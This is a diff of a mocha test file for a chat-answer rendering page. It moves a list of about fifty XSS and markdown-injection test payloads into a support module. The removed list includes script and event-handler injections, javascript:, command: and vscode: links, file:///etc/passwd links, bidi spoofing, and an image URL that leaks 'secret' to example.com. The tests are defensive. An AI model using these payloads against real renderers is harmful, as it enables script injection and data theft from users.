@@ -1,59 +1,8 @@
 import assert from 'node:assert/strict';
 import { after, afterEach, before, describe, it } from 'mocha';
+import { ATTACKS } from '../support/attacks.ts';
 import { PageHarness } from './harness.ts';
 import { answer, conversation, SCENES, userTurn } from './scenes.ts';
-
-/** Answers that try to do more than to be read. */
-const ATTACKS: readonly string[] = [
-  '<script>window.hit = 1</script>',
-  '<img src=x onerror="window.hit = 1">',
-  '<svg><script>window.hit = 1</script></svg>',
-  '<iframe src="https://example.com"></iframe>',
-  '<style>* { display: none }</style>',
-  '<a href="javascript:window.hit = 1">a</a>',
-  '[a](javascript:window.hit=1)',
-  '[a](JAVASCRIPT:window.hit=1)',
-  '[a](java\tscript:window.hit=1)',
-  '[a](&#106;avascript:window.hit=1)',
-  '[a](data:text/html,<script>window.hit=1</script>)',
-  '[a](command:workbench.action.terminal.new)',
-  '[a](vscode://settings)',
-  '<javascript:window.hit=1>',
-  '![pixel](https://example.com/p.png?data=secret)',
-  '![x" onerror="window.hit=1](https://example.com/p.png)',
-  '[![alt](https://example.com/p.png)](javascript:window.hit=1)',
-  '![a][b]\n\n[b]: https://example.com/p.png',
-  '```html" onmouseover="window.hit=1\n<img src=x onerror=window.hit=1>\n```',
-  '`<img src=x onerror=window.hit=1>`',
-  '| <img src=x onerror=window.hit=1> |\n| - |\n| <b>x</b> |',
-  '# <details open ontoggle=window.hit=1>',
-  '[a](https://example.com "><img src=x onerror=window.hit=1>")',
-  '<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>',
-  '&lt;img src=x onerror=window.hit=1&gt;',
-  '<form action=https://example.com><button>Send</button></form>',
-  '<object data="https://example.com/x.swf"></object><embed src="https://example.com/x">',
-  '<link rel="stylesheet" href="https://example.com/x.css"><base href="https://example.com/">',
-  '<meta http-equiv="refresh" content="0;url=https://example.com">',
-  '<video src="https://example.com/v.mp4" poster="https://example.com/p.png" autoplay></video>',
-  '<input autofocus onfocus="window.hit = 1"><body onload="window.hit = 1">',
-  '<svg/onload=window.hit=1><use href="https://example.com/x.svg#a"></svg>',
-  '<template><script>window.hit = 1</script></template><noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
-  '<!--><img src=x onerror=window.hit=1>--> <![CDATA[<img src=x onerror=window.hit=1>]]>',
-  '[a](vbscript:window.hit=1) [b](blob:https://example.com/1) [c](file:///etc/passwd)',
-  '[a](vscode-webview://1/x) [b](vscode-resource:/etc/passwd) [c](vscode:extension/x.y)',
-  '[a](java&NewLine;script&colon;window.hit=1) [b](&#x6A;&#x61;vascript:window.hit=1)',
-  '[a](\u0001javascript:window.hit=1) [b](java\u200Bscript:window.hit=1)',
-  '[a][b]\n\n[b]: javascript:window.hit=1',
-  '[command:workbench.action.quit] <command:workbench.action.quit> command:workbench.action.quit',
-  '![a](data:image/svg+xml,<svg/onload=window.hit=1>) ![b](command:x) ![c](//example.com/p.png)',
-  '[![alt](https://example.com/p.png)](https://example.com "title")',
-  '```mermaid\ngraph TD; A[<img src=x onerror=window.hit=1>] --> B; click A "javascript:window.hit=1"\n```',
-  '```html\n<script>window.hit = 1</script><img src="https://example.com/p.png">\n```',
-  '```js\n</code></pre><img src=x onerror=window.hit=1>\n```',
-  '```"><img src=x onerror=window.hit=1>\n```',
-  '- [x] <img src=x onerror=window.hit=1>\n- [ ] [a](javascript:window.hit=1)',
-  'a \u202Egpj.exe\u202C [\u202Emoc.elgoog\u202C](https://example.com) z\u200Be\u200Dr\uFEFFo',
-];
 
 /** More of something than anybody writes, and a text that stands at its end. */
 const EXCESSES: Readonly<Record<string, string>> = {
